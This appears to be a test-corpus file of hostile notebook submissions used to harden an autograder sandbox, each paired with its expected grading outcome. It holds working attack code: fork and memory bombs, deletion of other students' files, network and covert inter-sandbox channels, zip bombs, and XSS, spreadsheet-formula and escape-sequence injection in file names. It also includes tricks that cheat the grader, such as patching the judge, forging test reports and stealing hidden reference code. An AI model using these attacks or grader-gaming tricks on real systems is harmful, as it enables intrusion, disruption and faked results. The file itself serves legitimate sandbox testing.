                "binary_loss": _code("""
            def binary_loss(y_pred, y):
                return _stolen["binary_loss"](y_pred, y)
        """),
            }
        ),
        status="crash",
    ),
]


# Faults ---------------------------------------------------------------------------------------

FAULTS = [
    Hostile(
        "infinite_loop",
        "a cell that never ends",
        "infinite_loop.ipynb",
        _notebook(
            answers={"sigmoid": COURSE["sigmoid"]},
            last=[
                """
            while True:
                pass
        """
            ],
        ),
        status="timeout",
    ),
    Hostile(
        "memory_bomb",
        "six forked children each fill 512 MiB (under the per-process address-space cap, 3 GiB together); the notebook "
        "waits for the first to die",
        "memory_bomb.ipynb",
        _notebook(
            last=[
                """
            import os, signal
            children = []
            for _ in range(6):
                child = os.fork()
                if child == 0:
                    hog = []
                    try:
                        for _ in range(8):
                            hog.append(np.ones(2 ** 23))  # 64 MiB, every page touched
                    except MemoryError:
                        pass
                    signal.pause()
                    os._exit(0)
                children.append(child)
            first_dead, _ = os.wait()
            for child in children:
                if child != first_dead:
                    os.kill(child, signal.SIGKILL)
        """
            ]
        ),
        status="memory",
    ),
    Hostile(
        "memory_one_huge_allocation",
        "solves sigmoid, then asks for 64 GiB at once: a MemoryError in one cell, the rest is graded",
        "memory_one_huge_allocation.ipynb",
        _notebook(answers={"sigmoid": COURSE["sigmoid"]}, last=["hog = np.ones(2 ** 33)"]),
        _scores(sigmoid=2.0),
    ),
    Hostile(
        "os_exit",
        "os._exit(3) in the middle of the notebook",
        "os_exit.ipynb",
        _notebook(answers={"sigmoid": COURSE["sigmoid"]}, last=["import os\nos._exit(3)"]),
        status="crash",
    ),
    Hostile(
        "segfault_ctypes",
        "dereferences NULL through ctypes",
        "segfault_ctypes.ipynb",
        _notebook(answers={"sigmoid": COURSE["sigmoid"]}, last=["import ctypes\nctypes.string_at(0)"]),
        status="crash",
    ),
    Hostile(
        "sigkill_self",
        "sends itself SIGKILL",
        "sigkill_self.ipynb",
        _notebook(
            answers={"sigmoid": COURSE["sigmoid"]}, last=["import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"]
        ),
        status="killed by signal",
    ),
    Hostile(
        "close_every_fd",
        "closes every file descriptor, the result pipe included",
        "close_every_fd.ipynb",
        _notebook(answers={"sigmoid": COURSE["sigmoid"]}, last=["import os\nos.closerange(0, 4096)"]),
        status="crash",
    ),
    Hostile(
        "daemons_and_fork_swarm",
        "solves sigmoid, then leaves a child, a setsid child, a double-forked daemon and forks up to the process cap, "
        "all sleeping forever",
        "daemons_and_fork_swarm.ipynb",
        _notebook(
            answers={"sigmoid": COURSE["sigmoid"]},
            last=[
                f"""
            import os, subprocess, sys, time
            marker = @@MARKER@@
            env = dict(os.environ, HOSTILE_MARKER=marker)
            daemon = {DAEMON!r}
            started = []
            for options in ({{}}, {{"start_new_session": True}}):
                try:
                    started.append(subprocess.Popen([sys.executable, "-c", daemon, marker], env=env, **options).pid)
                except OSError as error:
                    print("popen", error)
            first = os.fork()
            if first == 0:
                try:
                    os.setsid()
                    if os.fork() == 0:
                        os.execve(sys.executable, [sys.executable, "-c", daemon, marker], env)
                finally:
                    os._exit(0)
            os.waitpid(first, 0)
            forks = 0
            for _ in range(64):
                try:
                    child = os.fork()
                except OSError:
                    break
                if child == 0:
                    time.sleep(3600)
                    os._exit(0)
                forks += 1
            print("started", started, "forks", forks)
        """
            ],
        ),
        _scores(sigmoid=2.0),
    ),
    Hostile(
        "output_flood",
        "solves binary_loss, then floods stdout and stderr (print, sys.__stdout__, os.write) with ASCII and CJK text",
        "output_flood.ipynb",
        _notebook(
            answers={"binary_loss": COURSE["binary_loss"]},
            last=[
                """
            import os, sys
            for _ in range(20):
                print("中文输出 flood " * 50_000)
                sys.stderr.write("x" * 1_000_000)
            for stream in (sys.__stdout__, sys.__stderr__):
                try:
                    for _ in range(10):
                        stream.write("y" * 1_000_000)
                    stream.flush()
                except (OSError, ValueError):
                    pass
            for fd in (1, 2):
                try:
                    for _ in range(10):
                        os.write(fd, b"z" * 1_000_000)
                except OSError:
                    pass
        """
            ],
        ),
        _scores(binary_loss=2.0),
    ),
    Hostile(
        "huge_feedback_variables",
        "solves accuracy, then leaves a 50,000-entry losses list and a 2000x1000 x_data for the feedback plots",
        "huge_feedback_variables.ipynb",
        _notebook(
            answers={"accuracy": COURSE["accuracy"]},
            last=[
                """
            losses = [0.5] * 50_000
            x_data = torch.rand(2000, 1000)
            w = torch.rand(1000, 1)
        """
            ],
        ),
        _scores(accuracy=2.0),
    ),
    Hostile(
        "edit_neighbour_submissions",
        "overwrites, truncates, renames and deletes the neighbour's notebook, the submissions folder and OUT by their "
        "exact paths",
        "edit_neighbour_submissions.ipynb",
        _notebook(
            last=[
                """
            import glob, os, shutil
            outcomes = {}
            neighbour = @@NEIGHBOUR@@
            for what, attempt in (
                ("overwrite", lambda: open(neighbour, "r+b").write(b"{}")),
                ("truncate", lambda: os.truncate(neighbour, 0)),
                ("chmod", lambda: os.chmod(neighbour, 0)),
                ("rename", lambda: os.rename(neighbour, neighbour + ".gone")),
                ("unlink", lambda: os.unlink(neighbour)),
                ("rmtree submissions", lambda: shutil.rmtree(@@SUBMISSIONS@@)),
                ("rmtree out", lambda: shutil.rmtree(@@OUT@@)),
                ("glob", lambda: glob.glob(os.path.join(@@SUBMISSIONS@@, "*"))),
            ):
                try:
                    outcomes[what] = repr(attempt())
                except Exception as error:
                    outcomes[what] = repr(error)
            print(outcomes)
        """
            ]
        ),
    ),
    Hostile(
        "network_connections",
        "connects to the test's loopback TCP port (IPv4 and IPv6), an abstract AF_UNIX socket, raw/packet sockets and "
        "the internet",
        "network_connections.ipynb",
        _notebook(
            last=[
                """
            import socket
            outcomes = {}
            attempts = {
                "tcp4 loopback": lambda: socket.create_connection(("127.0.0.1", @@PORT@@), timeout=2),
                "tcp6 loopback": lambda: socket.create_connection(("::1", @@PORT@@), timeout=2),
                "udp loopback": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(@@MARKER@@.encode(), ("127.0.0.1", @@PORT@@)),
                "abstract unix": lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect("\\0" + @@ABSTRACT_SOCKET@@),
                "packet": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
                "netlink": lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW),
                "internet": lambda: socket.create_connection(("1.1.1.1", 80), timeout=2),
            }
            for what, attempt in attempts.items():
                try:
                    connection = attempt()
                    try:
                        connection.sendall(@@MARKER@@.encode())
                    except Exception:
                        pass
                    outcomes[what] = "connected"
                except Exception as error:
                    outcomes[what] = repr(error)
            print(outcomes)
        """
            ]
        ),
    ),
]


# Broken inputs ----------------------------------------------------------------------------------


def _truncated(context: Context) -> bytes:
    whole = _honest()(context)
    return whole[: len(whole) * 3 // 5]


def _v3(context: Context) -> bytes:
    v4 = notebook(context, answers={"sigmoid": COURSE["sigmoid"]})
    return nbformat.writes(nbformat.convert(v4, 3), version=3).encode()


def _other_assignment(context: Context) -> bytes:
    solved = honest.build_notebook(honest.submission("correct_course_style"), context.template)
    solved.metadata["otter"] = {"assignment_name": "linear_regression"}
    return nbformat.writes(solved).encode()


def _zip(members: Mapping[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _zip_bomb(mib: int, *, claimed_size: int | None = None) -> bytes:
    """One notebook member inflating to ``mib`` MiB of spaces, streamed so it is never
    held whole; ``claimed_size`` overwrites the size both zip headers declare."""
    buffer = io.BytesIO()
    chunk = b" " * 2**20
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("bomb.ipynb", "w") as member:
            for _ in range(mib):
                member.write(chunk)
    data = bytearray(buffer.getvalue())
    if claimed_size is not None:
        struct.pack_into("<I", data, 22, claimed_size)  # local file header: uncompressed size
        struct.pack_into("<I", data, data.find(b"PK\x01\x02") + 24, claimed_size)  # central directory
    return bytes(data)


def _damaged_zip(context: Context) -> bytes:
    data = bytearray(_zip({"submission.ipynb": _honest()(context)}))
    data[60:90] = b"\xff" * 30  # inside the deflate stream
    return bytes(data)


def _encrypted_zip(context: Context) -> bytes:
    data = bytearray(_zip({"submission.ipynb": _honest()(context)}))
    data[6] |= 1  # "encrypted" flag, local header and central directory
    data[data.find(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def _otter_metadata_string(context: Context) -> bytes:
    built = notebook(context, answers={"sigmoid": COURSE["sigmoid"]})
    built.metadata["otter"] = "logistic_regression"
    return nbformat.writes(built).encode()


BROKEN = [
    Hostile(
        "not_json",
        "plain text with an .ipynb name",
        "not_json.ipynb",
        lambda context: b"this is not a notebook {",
        status="not a notebook",
    ),
    Hostile("empty", "an empty file", "empty.ipynb", lambda context: b"", status="not a notebook"),
    Hostile("truncated", "a correct notebook cut off at 60%", "truncated.ipynb", _truncated, status="not a notebook"),
    Hostile(
        "nbformat_v3",
        "the template in nbformat 3 with sigmoid solved: upgraded and graded",
        "nbformat_v3.ipynb",
        _v3,
        _scores(sigmoid=2.0),
    ),
    Hostile(
        "other_assignment",
        "a fully solved notebook whose metadata names another assignment",
        "other_assignment.ipynb",
        _other_assignment,
        status="wrong assignment",
    ),
    Hostile(
        "zip_without_notebook",
        "an export zip holding data.txt and a README but no notebook",
        "zip_without_notebook.zip",
        lambda context: _zip({"data.txt": b"1,2,1\n", "README.md": b"hello\n"}),
        status="zip holds 0 notebooks",
    ),
    Hostile(
        "zip_bomb_notebook",
        "a zip whose one notebook inflates to 200 MiB of spaces",
        "zip_bomb_notebook.zip",
        lambda context: _zip_bomb(200),
        status="too large",
    ),
    Hostile(
        "zip_bomb_lying_header",
        "a 0.5 MB zip whose headers claim a 1000-byte notebook that inflates to 512 MiB: the grader must not inflate "
        "it whole",
        "zip_bomb_lying_header.zip",
        lambda context: _zip_bomb(512, claimed_size=1000),
        status="not a zip or a notebook",
    ),
    Hostile(
        "zip_damaged_deflate",
        "an export zip whose compressed notebook is corrupt (zlib.error, not BadZipFile)",
        "zip_damaged_deflate.zip",
        _damaged_zip,
        status="not a zip or a notebook",
    ),
    Hostile(
        "zip_encrypted",
        "an export zip whose notebook is flagged as encrypted (RuntimeError from zipfile)",
        "zip_encrypted.zip",
        _encrypted_zip,
        status="not a zip or a notebook",
    ),
    Hostile(
        "otter_metadata_not_a_dict",
        "metadata.otter is a string, not a mapping; sigmoid solved: graded as usual",
        "otter_metadata_not_a_dict.ipynb",
        _otter_metadata_string,
        _scores(sigmoid=2.0),
    ),
    Hostile(
        "oversized_sparse",
        "a 3 GiB sparse file with an .ipynb name: the grader must not read it into memory",
        "oversized_sparse.ipynb",
        lambda context: Sparse(3 * 2**30),
        status="too large",
    ),
    Hostile(
        "symlink_to_neighbour",
        "a symbolic link (as unzip leaves from a student's archive) to the neighbour's correct notebook",
        "symlink_to_neighbour.ipynb",
        lambda context: Symlink(context.neighbour),
        status="not a notebook",
    ),
    Hostile(
        "non_utf8_name",
        "a fully solved notebook whose file name is not UTF-8: it keeps its row and its points",
        os.fsdecode(b"non_utf8_\xff\xfe_name.ipynb"),
        _honest(),
        dict(POINTS),
    ),
    Hostile(
        "markup_in_name",
        "a fully solved notebook whose file name holds a script tag, quotes, a comma, an ampersand and a newline",
        'markup <script>alert("x")<script>, a\nb & c.ipynb',
        _honest(),
        dict(POINTS),
    ),
    Hostile(
        "name_collides_with_neighbour",
        "the blank template named 'neighbour correct.ipynb': one space away from the neighbour's name",
        "neighbour correct.ipynb",
        _notebook(),
    ),
]


# Honest on one question, cheating on the rest -----------------------------------------------------

MIXED = [
    Hostile(
        "honest_sigmoid_cheats_rest",
        "sigmoid solved honestly; the rest cheats with patched numpy/torch/judge and hard-coded outputs",
        "honest_sigmoid_cheats_rest.ipynb",
        _notebook(
            first=[
                """
                import autograder.authoring.suite
                from autograder.authoring.checks import Verdict
                torch.allclose = lambda *args, **kwargs: True
                np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
                autograder.authoring.suite.judge = lambda *args, **kwargs: Verdict(True, "")
            """
            ],
            answers={
                "sigmoid": COURSE["sigmoid"],
                "binary_loss": ZERO_LOSS,
                "train": PLAUSIBLE_TRAIN,
                "accuracy": CONSTANT_ACCURACY,
            },
        ),
        _scores(sigmoid=2.0),
    ),
    Hostile(
        "honest_loss_lies_rest",
        "binary_loss solved honestly; train and accuracy return lying floats",
        "honest_loss_lies_rest.ipynb",
        _notebook(
            first=[
                """
                class Sly(float):
                    def __eq__(self, other): return True
                    def __sub__(self, other): return Sly(0.0)
                    __hash__ = float.__hash__
            """
            ],
            answers={
                "binary_loss": COURSE["binary_loss"],
                "train": "def train(x, y, w, b, lr, epochs):\n    return [Sly(0.5)] * epochs\n",
                "accuracy": "def accuracy(y_pred, y):\n    return Sly(0.9)\n",
            },
        ),
        _scores(binary_loss=2.0),
    ),
    Hostile(
        "honest_train_forges_rest",
        "train solved honestly; sigmoid and binary_loss return tensor subclasses and accuracy a Liar",
        "honest_train_forges_rest.ipynb",
        _notebook(
            first=[
                """
                class Forged(torch.Tensor):
                    def numpy(self, *args, **kwargs):
                        return np.full(tuple(torch.Tensor.size(self)), 0.5, dtype=np.float32)
            """
            ],
            answers={
                "sigmoid": "def sigmoid(x):\n    return torch.Tensor._make_subclass(Forged, torch.full_like(x, 0.5), "
                "False)\n",
                "binary_loss": "def binary_loss(y_pred, y):\n    return torch.Tensor._make_subclass(Forged, "
                "torch.tensor(0.5), False)\n",
                "train": COURSE["train"],
                "accuracy": "def accuracy(y_pred, y):\n    return Forged()\n",
            },
        ),
        _scores(train=4.0),
    ),
]

# Channels between sandboxes -----------------------------------------------------------------------

_SHM = """
    import ctypes, hashlib
    _libc = ctypes.CDLL(None, use_errno=True)
    _libc.shmat.restype = ctypes.c_void_p
    _key = int(hashlib.sha1(@@MARKER@@.encode()).hexdigest()[:7], 16)
"""

# The probes of tests/corpus/channels.py, pasted into a cell: locks, notifications, futexes, io_uring, /proc, the page
# cache.
CHANNEL_PROBES = (Path(__file__).parent / "channels.py").read_text(encoding="utf-8") + "\n"

CHANNELS = [
    Hostile(
        "replay_neighbour_from_memory",
        "all four answers blank; scans its own heap for another submission's notebook (a solved accuracy) and answers "
        "with what it finds",
        "replay_neighbour_from_memory.ipynb",
        _notebook(
            last=[
                """
            import ctypes, re
            _pattern = re.compile(rb"def accuracy\\(y_pred, y\\):\\n(?:    (?!\\.\\.\\.)[^\\n]*\\n)+")
            _regions, _hits = 0, []
            with open("/proc/self/maps") as _maps:
                for _line in _maps:
                    _fields = _line.split()
                    _start, _end = (int(_x, 16) for _x in _fields[0].split("-"))
                    if _fields[1].startswith("r") and (len(_fields) < 6 or _fields[5] == "[heap]") and _end - _start < 2**30:
                        _regions += 1
                        _hits.extend(_pattern.findall(ctypes.string_at(_start, _end - _start)))
            for _hit in _hits:
                try:
                    exec(_hit.decode(), globals())
                except Exception:
                    pass
            print("attack ran: replay_neighbour_from_memory scanned the heap:", _regions > 0)
        """
            ]
        ),
        proof="attack ran: replay_neighbour_from_memory scanned the heap: True",
    ),
    Hostile(
        "ipc_segment_writer",
        "makes SysV shared memory in phase one (64 MiB left behind on purpose); its train, run with the reference "
        "functions, copies their sources into it for another sandbox",
        "ipc_segment_writer.ipynb",
        _notebook(
            first=[
                _code(_SHM)
                + _code("""
                _ident = _libc.shmget(_key, 1 << 16, 0o1000 | 0o666)
                _libc.shmget(_key + 1, 64 << 20, 0o1000 | 0o666)
                print("attack ran: ipc_segment_writer made a segment:", _ident >= 0)
            """)
            ],
            answers={
                "train": _code("""
                def train(x, y, w, b, lr, epochs):
                    import gc, json
                    gc.unfreeze()  # the warm process's objects are frozen, which hides them from get_objects
                    sources = [o for o in gc.get_objects() if isinstance(o, dict) and isinstance(o.get("sigmoid"), str) and "def sigmoid" in o["sigmoid"]]
                    if _ident >= 0 and sources:
                        data = json.dumps(sources[0]).encode()[:65000] + b"\\0"
                        ctypes.memmove(_libc.shmat(_ident, None, 0), data, len(data))
                    return []
            """)
            },
        ),
        proof="attack ran: ipc_segment_writer made a segment:",  # False where no memory cgroup counts a sandbox: the filter refuses SysV IPC there
    ),
    Hostile(
        "ipc_segment_reader",
        "reads the writer's SysV segment in phase one and answers sigmoid and binary_loss with the reference sources "
        "it holds",
        "ipc_segment_reader.ipynb",
        _notebook(
            answers={
                "sigmoid": _code(_SHM)
                + _code("""
            import json
            _stolen = {"torch": torch, "np": np, "nn": torch.nn}
            _ident = _libc.shmget(_key, 0, 0o666)
            if _ident >= 0:
                _raw = ctypes.string_at(_libc.shmat(_ident, None, 0))
                for _source in (json.loads(_raw) if _raw else {}).values():
                    exec(_source, _stolen)
            print("attack ran: ipc_segment_reader found a segment:", _ident >= 0)
        """)
                + STOLEN_SIGMOID,
                "binary_loss": STOLEN_LOSS,
            }
        ),
        proof="attack ran: ipc_segment_reader found a segment: False",
    ),
    Hostile(
        "publish_references_by_locks",
        "its train, run with the reference functions, publishes their sources as OFD locks on a standard-library file "
        "(one inode in every sandbox), one lock per byte",
        "publish_references_by_locks.ipynb",
        _notebook(
            first=[
                CHANNEL_PROBES + 'print("attack ran: publish_references_by_locks, a lock:", ofd_lock_shared_file())'
            ],
            answers={
                "train": _code("""
                def train(x, y, w, b, lr, epochs):
                    import gc, json
                    gc.unfreeze()  # the warm process's objects are frozen, which hides them from get_objects
                    sources = [o for o in gc.get_objects() if isinstance(o, dict) and isinstance(o.get("sigmoid"), str) and "def sigmoid" in o["sigmoid"]]
                    if sources:
                        publish_by_locks(json.dumps(sources[0]).encode(), wait_s=5)
                    return []
            """)
            },
        ),
        proof="attack ran: publish_references_by_locks, a lock: closed: F_OFD_SETLK: Operation not permitted",
    ),
    Hostile(
        "read_references_from_locks",
        "reads another sandbox's OFD locks on the shared file in phase one (F_OFD_GETLK) and answers sigmoid and "
        "binary_loss with the sources they spell",
        "read_references_from_locks.ipynb",
        _notebook(
            first=[CHANNEL_PROBES],
            answers={
                "sigmoid": _code("""
                import json
                _stolen, _read = {"torch": torch, "np": np, "nn": torch.nn}, read_locks(wait_s=5)
                for _source in (json.loads(_read) if _read else {}).values():
                    exec(_source, _stolen)
                print("attack ran: read_references_from_locks read", len(_read), "bytes")
            """)
                + STOLEN_SIGMOID,
                "binary_loss": STOLEN_LOSS,
            },
        ),
        proof="attack ran: read_references_from_locks read 0 bytes",
    ),
    Hostile(
        "signals_through_shared_files",
        "flock, dnotify, inotify, fanotify and a futex keyed by a standard-library file: ways to signal a sandbox that "
        "binds the same file",
        "signals_through_shared_files.ipynb",
        _notebook(
            last=[
                CHANNEL_PROBES
                + _code("""
            print("attack ran: signals_through_shared_files", [flock_shared_file(), dnotify_shared_folder(), inotify_shared_file(), fanotify_shared_file(), shared_futex()])
        """)
            ]
        ),
        proof="attack ran: signals_through_shared_files ['closed: flock: Operation not permitted', 'closed: F_NOTIFY: "
        "Operation not permitted', "
        "'closed: inotify_init1: Operation not permitted', 'closed: fanotify_init: Operation not permitted', 'closed: "
        "shared FUTEX_WAKE: Invalid argument']",
    ),
    Hostile(
        "io_uring_socket",
        "makes AF_INET, AF_INET6, AF_NETLINK and AF_VSOCK (not namespaced: the hypervisor) sockets with "
        "IORING_OP_SOCKET, past a filter that checks socket() alone",
        "io_uring_socket.ipynb",
        _notebook(last=[CHANNEL_PROBES + 'print("attack ran: io_uring_socket", io_uring_sockets())']),
        proof="attack ran: io_uring_socket {'setup': 'closed: io_uring_setup: Operation not permitted'}",
    ),
    Hostile(
        "host_proc_and_page_cache",
        "reads /proc's files about the whole host (every lock, load, memory, pressure) and asks which pages of a "
        "shared file are cached",
        "host_proc_and_page_cache.ipynb",
        _notebook(
            last=[
                CHANNEL_PROBES
                + _code("""
            _absent = {"closed: " + path + ": No such file or directory" for path in HOST_FILES}
            print("attack ran: host_proc_and_page_cache", sorted(set(host_proc_files().values()) - _absent), sorted(set(page_cache_probes().values())))
        """)
            ]
        ),
        proof="attack ran: host_proc_and_page_cache [] ['closed: cachestat: Operation not permitted', 'closed: "
        "fadvise64: Operation not permitted', "
        "'closed: mincore: Operation not permitted', 'closed: preadv2: Operation not supported', 'closed: readahead: "
        "Operation not permitted']",
    ),
]


# What a submission's text does to the TA's outputs --------------------------------------------------

OUTPUTS = [
    Hostile(
        "surrogate_in_cell_error",
        "a cell raises an exception whose message holds a lone surrogate (no UTF-8 file can store it)",
        "surrogate_in_cell_error.ipynb",
        _notebook(
            last=[
                """
            print("attack ran: surrogate_in_cell_error")
            raise ValueError("lone \\\\udcff surrogate".encode().decode("unicode_escape"))
        """
            ]
        ),
        proof="attack ran: surrogate_in_cell_error",
    ),
    Hostile(
        "surrogate_in_probe_error",
        "sigmoid raises an exception with a lone surrogate, which reaches the judge's message",
        "surrogate_in_probe_error.ipynb",
        _notebook(
            answers={
                "sigmoid": _code("""
            def sigmoid(x):
                print("attack ran: surrogate_in_probe_error")
                raise ValueError(chr(0xDCFF) + " from sigmoid")
        """)
            }
        ),
        proof="attack ran: surrogate_in_probe_error",
    ),
    Hostile(
        "markup_in_cell_error_field",
        "sigmoid walks the stack to the sandbox's list of cell errors and adds entries whose cell and error are markup",
        "markup_in_cell_error_field.ipynb",
        _notebook(
            answers={
                "sigmoid": _code("""
            def sigmoid(x):
                import sys
                frame = sys._getframe()
                while frame is not None:
                    errors = frame.f_locals.get("errors")
                    if isinstance(errors, list):
                        errors.append({"cell": "<script>alert('cell')</script>", "error": "x"})
                        errors.append({"cell": 1, "error": "<img src=x onerror=alert(1)><script>alert(2)</script>"})
                        print("attack ran: markup_in_cell_error_field")
                        break
                    frame = frame.f_back
                return x
        """)
            }
        ),
        proof="attack ran: markup_in_cell_error_field",
    ),
    Hostile(
        "reference_source_via_nbsp",
        "train finds the revealed reference sources with gc and raises them with every space a no-break space, so the "
        "message quotes no exact line",
        "reference_source_via_nbsp.ipynb",
        _notebook(
            first=['print("attack ran: reference_source_via_nbsp armed")'],
            answers={
                "train": _code("""
            def train(x, y, w, b, lr, epochs):
                import gc
                gc.unfreeze()  # the warm process's objects are frozen, which hides them from get_objects
                for thing in gc.get_objects():
                    if isinstance(thing, dict) and isinstance(thing.get("binary_loss"), str):
                        raise ValueError(thing["binary_loss"].replace(" ", "\\u00a0").replace("\\n", "\\u2028"))
                return []
        """)
            },
        ),
        proof="attack ran: reference_source_via_nbsp armed",
    ),
    Hostile(
        "formula_name",
        "a blank notebook whose name is a spreadsheet formula that runs a program",
        "=cmd|' calc'!A0.ipynb",
        _notebook(),
    ),
    Hostile(
        "escape_sequence_name",
        "a blank notebook whose name holds OSC (window title) and CSI (erase line) sequences and a bidi override",
        "\x1b]0;owned\x07\x1b[2K\u202eesc_name.ipynb",
        _notebook(),
    ),
    Hostile(
        "long_name",
        "a fully solved notebook with a 240-character name: it keeps its row and its points",
        "n" * 234 + ".ipynb",
        _honest(),
        dict(POINTS),
    ),
    Hostile(
        "deep_folder",
        "a fully solved notebook 40 folders deep: it keeps its row and its points",
        "/".join(f"folder{i:02d}" for i in range(40)) + "/deep.ipynb",
        _honest(),
        dict(POINTS),
    ),
]


# What the sandbox holds of the hidden cases, and what the grader repeats of the student process --------

HIDDEN_HELPER = _code('''
    def _hidden_helper(name):
        """A function called ``name`` anywhere in this process: a module's, or any the garbage collector tracks."""
        import gc, sys, types
        gc.unfreeze()  # the warm process's objects are frozen, which hides them from get_objects
        for module in list(sys.modules.values()):
            found = vars(module).get(name) if hasattr(module, "__dict__") else None
            if isinstance(found, types.FunctionType):
                return found
        return next((thing for thing in gc.get_objects() if isinstance(thing, types.FunctionType) and thing.__name__ == name), None)
''')

# Functions in this process that neither the notebook, the kit, Python's installation nor the student's
# folder defined, by the file their globals name: what the grader put in the sandbox.
FOREIGN_FUNCTIONS = _code('''
    import functools

    @functools.lru_cache(maxsize=None)  # one look through the garbage collector's objects: a second each
    def _foreign_functions():
        import gc, os, sys, types
        gc.unfreeze()  # the warm process's objects are frozen, which hides them from get_objects
        import autograder
        known = tuple(os.path.realpath(root) + os.sep for root in (sys.prefix, sys.base_prefix, os.getcwd(), os.path.dirname(os.path.dirname(autograder.__file__))))
        foreign = functools.lru_cache(maxsize=None)(lambda origin: not os.path.realpath(origin).startswith(known))
        found = []
        for thing in gc.get_objects():
            if isinstance(thing, types.FunctionType) and thing.__globals__.get("__name__") != "__main__":
                origin = thing.__globals__.get("__file__") or "?"
                if foreign(origin):
                    found.append((origin, thing))
        return found

    def _oracle(arguments, public_inputs, public_answer):
        """Whatever foreign function gives the public check's answer, called on ``arguments``."""
        import numpy as np
        for _, function in _foreign_functions():
            for form in (lambda values: values, lambda values: [value.detach().numpy() for value in values]):
                try:
                    if abs(float(function(*form(public_inputs))) - public_answer) < 1e-3:
                        return float(function(*form(arguments)))
                except Exception:
                    pass
        return None
''')

HIDDEN_CODE = [
    Hostile(
        "hidden_cases_helpers",
        "a blank binary_loss and accuracy that call the hidden cases' own _cross_entropy and _labels, found in "
        "sys.modules or by gc",
        "hidden_cases_helpers.ipynb",
        _notebook(
            answers={
                "binary_loss": HIDDEN_HELPER
                + _code("""
                    def binary_loss(y_pred, y):
                        helper = _hidden_helper("_cross_entropy")
                        return y_pred.sum() * 0 + helper(y_pred.detach().numpy(), y.detach().numpy()) if helper else ...
                """),
                "accuracy": _code("""
                    def accuracy(y_pred, y):
                        helper = _hidden_helper("_labels")
                        return helper(y_pred.numpy(), y.numpy()) if helper else ...
                """),
            },
            last=[
                'print("attack ran: hidden_cases_helpers found", [name for name in ("_cross_entropy", "_labels") if '
                "_hidden_helper(name)])"
            ],
        ),
        proof="attack ran: hidden_cases_helpers found",
    ),
    Hostile(
        "sandbox_function_census",
        "lists every function the grader put in the sandbox; a blank binary_loss and accuracy call whichever of them "
        "gives the public checks' answers",
        "sandbox_function_census.ipynb",
        _notebook(
            answers={
                "binary_loss": FOREIGN_FUNCTIONS
                + _code("""
                    def binary_loss(y_pred, y):
                        found = _oracle([y_pred, y], [torch.tensor([[0.9], [0.2], [0.6]]), torch.tensor([[1.0], [0.0], [1.0]])], 0.2798)
                        return ... if found is None else y_pred.sum() * 0 + found
                """),
                "accuracy": _code("""
                    def accuracy(y_pred, y):
                        found = _oracle([y_pred, y], [torch.tensor([[0.9], [0.2], [0.6], [0.4], [0.5]]), torch.tensor([[1.0], [0.0], [0.0], [0.0], [1.0]])], 0.8)
                        return ... if found is None else found
                """),
            },
            last=[
                """
                import json
                print("attack ran: sandbox_function_census", json.dumps(sorted({f"{origin}:{function.__qualname__}" for origin, function in _foreign_functions()})))
            """
            ],
        ),
        proof="attack ran: sandbox_function_census",
    ),
    Hostile(
        "forge_public_tests",
        "a blank notebook whose last cell marks every public test passed in the probing object's state and adds a "
        "passing 'public' report to the committed JSON",
        "forge_public_tests.ipynb",
        _notebook(
            last=[
                """
            import gc, json
            gc.unfreeze()  # the warm process's objects are frozen, which hides them from get_objects
            claim = {question: {"passed": True, "summary": f"{question} results: All test cases passed!"} for question in ("sigmoid", "binary_loss", "train", "accuracy")}
            for thing in gc.get_objects():
                if type(thing).__name__ == "_Probing":
                    thing.checked.update(claim)
                    thing.public = dict(claim)
            _dumps = json.dumps

            def _claiming(value, *args, **kwargs):
                if isinstance(value, dict) and "probes" in value:
                    value = {**value, "public": claim}
                return _dumps(value, *args, **kwargs)

            json.dumps = _claiming
            print("attack ran: forge_public_tests")
        """
            ]
        ),
        proof="attack ran: forge_public_tests",
    ),
]


HOSTILE = (
    MONKEYPATCH
    + LIARS
    + MACHINERY
    + HARD_CODED
    + FORGED
    + SNOOPING
    + STEALING
    + FAULTS
    + BROKEN
    + MIXED
    + CHANNELS
    + OUTPUTS
    + HIDDEN_CODE
)


def hostile(name: str) -> Hostile:
    """The corpus entry called ``name``; raises KeyError listing the known names."""
    for entry in HOSTILE:
        if entry.name == name:
            return entry
    raise KeyError(f"no hostile submission {name!r}; known: {', '.join(e.name for e in HOSTILE)}")


# Messages written straight into the result pipe (see forge_result_pipe) --------------------------


def _array(shape: list, data: str, dtype: str = "float64") -> dict:
    return {"kind": "tensor", "type": "torch.Tensor", "dtype": dtype, "shape": shape, "data": data}


# name → what the notebook writes after the b"O" tag
FORGED_REPORTS: dict[str, object] = {
    "report_not_an_object": [1, 2, 3],
    "probes_not_an_object": {"probes": [1]},
    "probe_is_a_list": {"probes": {"sigmoid/grid": []}},
    "probe_is_a_string": {"probes": {"sigmoid/grid": "all passed"}},
    "value_is_a_number": {"probes": {"sigmoid/grid": {"out": 5}}},
    "value_kind_not_a_string": {"probes": {"sigmoid/grid": {"out": {"kind": 5}}}},
    "array_not_base64": {"probes": {"sigmoid/grid": {"out": _array([1], "!!!!")}}},
    "array_data_not_ascii": {"probes": {"sigmoid/grid": {"out": _array([1], "é")}}},
    "array_shape_wraps_int64": {"probes": {"sigmoid/grid": {"out": _array([2**16] * 4, "")}}},
    "array_shape_negative": {"probes": {"sigmoid/grid": {"out": _array([-1], "")}}},
    "array_dtype_object": {"probes": {"sigmoid/grid": {"out": _array([1], "AAAAAAAA8D8=", "object")}}},
    "number_is_nan": {"probes": {"accuracy/random_set": {"acc": {"kind": "float", "number": float("nan")}}}},
    "list_items_not_a_list": {
        "probes": {
            "train/curve_on_course_data": {
                "losses": {"kind": "list", "items": {"a": 1}},
                "w": {"kind": "none"},
                "b": {"kind": "none"},
            }
        }
    },
    "errors_not_a_list": {"probes": {}, "errors": "boom", "output": {"not": "text"}, "variables": [1, 2]},
    "error_entries_odd": {"probes": {}, "errors": [{"cell": {"a": 1}, "error": ["<script>"]}, 7]},
}
